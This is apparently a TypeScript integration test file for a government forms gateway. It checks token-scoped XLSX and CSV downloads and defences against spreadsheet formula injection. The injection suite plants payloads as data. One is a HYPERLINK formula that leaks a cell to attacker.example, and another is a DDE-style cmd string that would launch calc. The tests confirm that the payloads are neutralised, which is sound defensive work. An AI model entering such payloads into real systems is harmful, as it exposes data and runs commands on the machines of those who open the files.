/**
 * Departments download their forms for a period from the gateway, with the same bearer token:
 * a real XLSX workbook (read back with exceljs) and a CSV, holding exactly their own forms.
 */
import ExcelJS from 'exceljs';
import { shanghaiToday } from '../domain/period';
import { parseCsv } from '../platform/csv';
import { parseExport } from '../subgraphs/community/adapters/community-registry/description';
import { consistentResidents } from '../systems/seed/population';
import { startStack, type Stack } from './support/stack';
import { deathOf, moveOf, report, waitForIntake } from './support/reports';

describe('form downloads', () => {
  let stack: Stack;
  const person = consistentResidents().find((r) => r.socialAssistance.subsistenceAllowance && r.elderlyDisability.elderlySubsidy)!;
  beforeAll(async () => {
    stack = await startStack();
    const res = await report(stack, deathOf(person));
    expect(res.data!.reportPopulationChange.status).toBe('COMPLETE');
  }, 60_000);
  afterAll(() => stack?.close());

  // A form's content is personal data: the download declares its purpose like any read of it.
  const download = async (path: string, token: string | null) =>
    fetch(`${stack.gatewayUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}`, 'x-purpose': 'monthly form returns' } : {} });

  it("gives civil affairs an XLSX of this month's forms, one sheet per form type, with the template's fields", async () => {
    const res = await download('/exports/forms.xlsx?preset=THIS_MONTH', await stack.token('civil-affairs'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const names = workbook.worksheets.map((w) => w.name);
    expect(names).toEqual(['summary', '1-SUBSISTENCE_ALLOWANCE_CANCELL', '3-ELDERLY_SUBSIDY_REDUCTION']);
    const sheet = workbook.getWorksheet('1-SUBSISTENCE_ALLOWANCE_CANCELL')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = (sheet.getRow(2).values as unknown[]).slice(1);
    const cell = (name: string) => row[header.indexOf(name)];
    expect(sheet.rowCount).toBe(2);
    expect(cell('formType')).toBe('SUBSISTENCE_ALLOWANCE_CANCELLATION');
    expect(cell('idNumber')).toBe(person.idNumber);
    expect(cell('monthlyAmount')).toBe(String(person.socialAssistance.subsistenceAllowance!.monthlyAmount));
  });

  it("gives health a CSV of its own forms only", async () => {
    const res = await download('/exports/forms.csv?preset=THIS_MONTH', await stack.token('health'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const [header, ...rows] = parseCsv(await res.text());
    expect(rows).toHaveLength(1);
    expect(rows[0][header.indexOf('formType')]).toBe('DEATH_REGISTRATION_REPORT');
    expect(rows[0][header.indexOf('department')]).toBe('health');
  });

  it('filters by type and by explicit dates', async () => {
    const res = await download('/exports/forms.csv?from=2020-01-01&to=2020-12-31', await stack.token('civil-affairs'));
    expect(parseCsv(await res.text())).toHaveLength(1); // the header alone
  });

  it('refuses without a token (401) and with a bad period (400 naming the rule)', async () => {
    expect((await download('/exports/forms.xlsx?preset=THIS_MONTH', null)).status).toBe(401);
    const bad = await download('/exports/forms.csv?from=2026-12-01&to=2026-01-01', await stack.token('hrss'));
    expect(bad.status).toBe(400);
    expect(JSON.stringify(await bad.json())).toContain('"rule":"order"');
  });

  describe('cells a spreadsheet would run as formulas (CSV injection)', () => {
    // Reported as an attacker would (through the gateway, as a worker of the community), on a day
    // of their own so the other downloads above do not see them.
    const day = new Date(Date.parse(shanghaiToday()) - 100 * 86_400_000).toISOString().slice(0, 10);
    const PLACE = '=HYPERLINK("http://attacker.example/?leak="&A1,"详情")';
    const CERTIFICATE = '-2-3-4';
    const DESTINATION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    const [dying, moving] = consistentResidents().filter((r) => r.community === person.community && r.idNumber !== person.idNumber && !r.health.deceased);
    beforeAll(async () => {
      for (const input of [deathOf(dying, { effectiveDate: day, death: { place: PLACE, certificateNumber: CERTIFICATE } }), moveOf(moving, { effectiveDate: day, move: { destination: DESTINATION } })]) {
        const res = await report(stack, input);
        expect(res.errors).toBeUndefined();
        await waitForIntake(stack, res.data!.reportPopulationChange.id, (i) => i.deliveries.every((d) => d.status !== 'PENDING'));
      }
    }, 60_000);

    it('come out of /exports/forms.csv with a single quote in front, read by a CSV parser', async () => {
      const res = await download(`/exports/forms.csv?from=${day}&to=${day}`, await stack.token('community', person.community));
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(await res.text());
      const column = (name: string) => rows.map((r) => r[header.indexOf(name)]).filter((v) => v !== '');
      expect(column('deathPlace')).toContain(`'${PLACE}`);
      expect(column('deathCertificateNumber')).toContain(`'${CERTIFICATE}`);
      expect(column('destination')).toContain(`'${DESTINATION}`);
      // No cell of the file starts a formula.
      for (const cell of [...header, ...rows.flat()]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('stay text in the XLSX workbook (string cells, no formula)', async () => {
      const res = await download(`/exports/forms.xlsx?from=${day}&to=${day}`, await stack.token('community', person.community));
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await res.arrayBuffer());
      const cells: ExcelJS.Cell[] = [];
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
      const place = cells.find((c) => c.value === PLACE);
      expect(place?.type).toBe(ExcelJS.ValueType.String);
      expect(cells.find((c) => c.value === DESTINATION)?.type).toBe(ExcelJS.ValueType.String);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    });

    it("come out of the community registry's own CSV export quoted, and the community subgraph's adapter reads the destination as given", async () => {
      const text = await (await fetch(`${stack.systems.COMMUNITY_REGISTRY.url}/registry/export.csv?community=${person.community}`)).text();
      const [header, ...rows] = parseCsv(text);
      const row = rows.find((r) => r[header.indexOf('idNumber')] === moving.idNumber)!;
      expect(row[header.indexOf('movedTo')]).toBe(`'${DESTINATION}`);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(parseExport(text).find((p) => p.idNumber === moving.idNumber)?.movedTo).toBe(DESTINATION);
    });
  });
});
